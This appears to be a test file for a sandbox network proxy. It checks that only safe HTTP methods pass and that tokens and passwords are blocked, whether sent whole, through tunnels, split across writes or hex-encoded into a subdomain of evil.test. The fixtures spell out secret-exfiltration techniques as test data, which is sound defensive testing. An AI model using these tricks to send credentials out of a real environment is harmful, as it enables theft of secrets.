// What of plain HTTP is let through: methods, and no secret, be it asked for as a whole address or through a tunnel.
import { createServer } from "node:net";
import { describe, expect, it } from "vitest";
import { carriesSecret } from "../../../src/domain/outbound-secrets.ts";
import { redactor } from "../../../src/domain/redaction.ts";
import { TOKENS } from "../../domain/tokens.ts";
import { listening, machines, openAttempt, serve } from "./kit.ts";

const secrets = redactor([["PASSWORD", "hunter-2-hunter-3"]]);
const looked = { carriesSecret: (text: string) => carriesSecret(text, (one) => secrets.text(one)) };
const TOKEN = TOKENS["github-token"];
const WRAPPED = Buffer.from(`t=${TOKEN}`).toString("base64url");

/** A web server that remembers what it has heard. */
async function ear() {
  const heard: string[] = [];
  const { port } = await serve((request, response) => {
    let body = "";
    request.setEncoding("latin1").on("data", (part: string) => (body += part));
    request.on("end", () => response.end(`ok ${heard.push(`${request.method} ${request.url} ${body}`)}`));
    request.on("error", () => undefined);
  });
  return { heard, port };
}

const asked = (line: string, rest = "") => `"${line} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n${rest}\\r\\n"`;
const body = (text: string) => `Content-Length: ${text.length}\\r\\n\\r\\n${text}`;
const tunnel = (place: string, request: string) => `raw(proxy, "CONNECT ${place} HTTP/1.1\\r\\n\\r\\n" + ${request})`;

describe.each(machines)("plain HTTP (as $user)", () => {
  it("only asks, unless the port of the host is among those of the agent", async () => {
    const { heard, port } = await ear();
    const named = await openAttempt({ network: [`ok.test:${port}`], privateHosts: ["ok.test"], ...looked });
    const every = await openAttempt({ network: true, privateHosts: ["ok.test"], ...looked });
    const url = `http://ok.test:${port}`;
    const script = (methods: readonly string[]) =>
      methods
        .flatMap((method) => [
          `console.log((await raw(proxy, ${asked(`${method} ${url}/whole`)})).split(" ")[1]);`,
          `console.log((await ${tunnel(`ok.test:${port}`, asked(`${method} /tunnel`))}).split("HTTP/1.1 ").at(-1).slice(0, 3));`,
        ])
        .join("\n");
    expect((await every.run(script(["GET", "OPTIONS"]))).out.split("\n")).toEqual(["200", "200", "200", "200"]);
    expect((await every.run(script(["POST", "DELETE", "PROPFIND"]))).out.split("\n")).toEqual(Array(6).fill("403"));
    expect(heard.map((line) => line.split(" ")[0])).toEqual(["GET", "GET", "OPTIONS", "OPTIONS"]);
    expect((await named.run(script(["POST", "PUT"]))).out.split("\n")).toEqual(["200", "200", "200", "200"]);
    expect(heard).toHaveLength(8);
    expect(every.refusals).toMatchObject([{ host: "ok.test", port, why: expect.stringContaining("by plain http") }]);
  });

  it.each([
    ["after an empty line", '"\\r\\n" + '.concat(asked("POST /"))],
    ["with a long address", asked(`POST /${"a".repeat(9000)}`)],
    ["with an address that is none", asked("POST /a\\xe9 b")],
    ["with tabs", asked("POST\\t/\\t")],
  ])("is told for what it is in a tunnel: %s", async (_how, request) => {
    const heard: string[] = [];
    const server = createServer((socket) => {
      socket
        .on("error", () => undefined)
        .on("data", (part: Buffer) => {
          heard.push(part.toString("latin1"));
          socket.end();
        });
    });
    const port = await listening(server);
    const { run } = await openAttempt({ network: true, privateHosts: ["ok.test"], ...looked });
    const { out } = await run(`console.log(await ${tunnel(`ok.test:${port}`, request)})`);
    expect(out).toMatch(/HTTP\/1\.1 40[03] /);
    expect(heard.join("")).toBe("");
  });

  it.each([
    ["address", (url: string) => asked(`GET ${url}/?q=${TOKEN}`)],
    ["address, wrapped", (url: string) => asked(`GET ${url}/${WRAPPED}`)],
    ["address, with percent signs", (url: string) => asked(`GET ${url}/${TOKEN.replace("_", "%5F")}`)],
    ["header", (url: string) => asked(`GET ${url}/`, "Authorization: Bearer hunter-2-hunter-3\\r\\n")],
    ["name of a header", (url: string) => asked(`GET ${url}/`, "x-hunter-2-hunter-3: 1\\r\\n")],
    ["body", (url: string) => asked(`POST ${url}/`, body(`a=1&b=${TOKEN}`)).replace(/\\r\\n"$/, '"')],
  ])("with a secret in its %s is not sent, neither whole nor through a tunnel", async (_where, request) => {
    const { heard, port } = await ear();
    const place = `ok.test:${port}`;
    const { run, refusals } = await openAttempt({ network: [place], privateHosts: ["ok.test"], ...looked });
    const { out } = await run(`
      console.log(await raw(proxy, ${request(`http://${place}`)}));
      console.log(await ${tunnel(place, request(""))});`);
    expect(out.match(/HTTP\/1\.1 403 /g)).toHaveLength(2);
    expect(heard.join()).not.toMatch(/hunter|ghp|[A-Za-z0-9_-]{40}/);
    expect(refusals).toMatchObject([{ host: "ok.test", why: expect.stringContaining("secret") }]);
    expect(JSON.stringify(refusals)).not.toContain(TOKEN);
  });

  it("with a secret that comes in two pieces is not sent whole", async () => {
    const { heard, port } = await ear();
    const place = `ok.test:${port}`;
    const { run, refusals } = await openAttempt({ network: [place], privateHosts: ["ok.test"], ...looked });
    const [first, second] = [TOKEN.slice(0, 15), TOKEN.slice(15)];
    await run(`return new Promise((done) => {
      const socket = net.connect(proxy, "127.0.0.1", () => {
        socket.write("POST http://${place}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: ${TOKEN.length}\\r\\n\\r\\n${first}");
        setTimeout(() => socket.write("${second}"), 200);
      });
      socket.on("data", () => undefined).on("error", done).on("close", done);
    })`);
    expect(heard.join()).not.toContain(second);
    expect(refusals).toMatchObject([{ why: expect.stringContaining("secret") }]);
  });

  it("through a tunnel goes where the tunnel leads, one request after the other, and in no other version", async () => {
    const [ok, other] = [await ear(), await ear()];
    const place = `ok.test:${ok.port}`;
    const { run, refusals } = await openAttempt({ network: [place], privateHosts: ["ok.test"], ...looked });
    const two = `"GET http://ok.test:${other.port}/a HTTP/1.1\\r\\nHost: ok.test:${other.port}\\r\\n\\r\\n" + ${asked(`GET /?t=${TOKEN}`)}`;
    const { out } = await run(`
      console.log(await ${tunnel(place, two)});
      console.log(await ${tunnel(place, asked("CONNECT evil.test:443"))});
      console.log("h2 " + await ${tunnel(place, '"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"')});`);
    expect(ok.heard).toEqual(["GET /a "]);
    expect(other.heard).toEqual([]);
    expect(out).toContain("There is no tunnel in a tunnel");
    expect(out).toMatch(/h2 HTTP\/1\.1 200 Connection established\s*$/);
    expect(refusals.length).toBeGreaterThan(0);
  });
});

describe.each(machines)("a tunnel (as $user)", () => {
  it("to a host with a secret in its name is not opened", async () => {
    const { run, refusals } = await openAttempt({ network: true, ...looked });
    const { out } = await run(`return connect("${Buffer.from(TOKEN).toString("hex")}.evil.test:443")`);
    expect(out).toContain("403");
    expect(refusals).toMatchObject([{ why: "a secret stands in its name" }]);
  });

  it("carries other protocols as they are, also where the server speaks first", async () => {
    const server = createServer((socket) => {
      socket.write("220 ready\r\n");
      socket.on("data", (bytes) => void socket.write(`heard ${bytes.toString("latin1").length}\r\n`));
      socket.on("error", () => undefined);
    });
    const port = await listening(server);
    const { run } = await openAttempt({ network: [`ok.test:${port}`], privateHosts: ["ok.test"], ...looked });
    const speak = (words: string) => `await new Promise((done) => {
      let said = "";
      const socket = net.connect(proxy, "127.0.0.1", () => socket.write("CONNECT ok.test:${port} HTTP/1.1\\r\\n\\r\\n"));
      socket.setEncoding("latin1").on("data", (part) => {
        if (!said.includes("220") && (said + part).includes("220")) socket.write(${JSON.stringify(words)}, "latin1");
        said += part;
        if (said.includes("heard")) { socket.destroy(); done(said.split("heard ")[1].trim()); }
      });
    })`;
    const { out } = await run(`
      console.log(${speak("EHLO me\r\n")}); console.log(${speak("\u0016\u0003\u0001hello")}); console.log(${speak("SSH-2.0-x\r\n")});`);
    expect(out.split("\n")).toEqual(["9", "8", "11"]);
  });
});
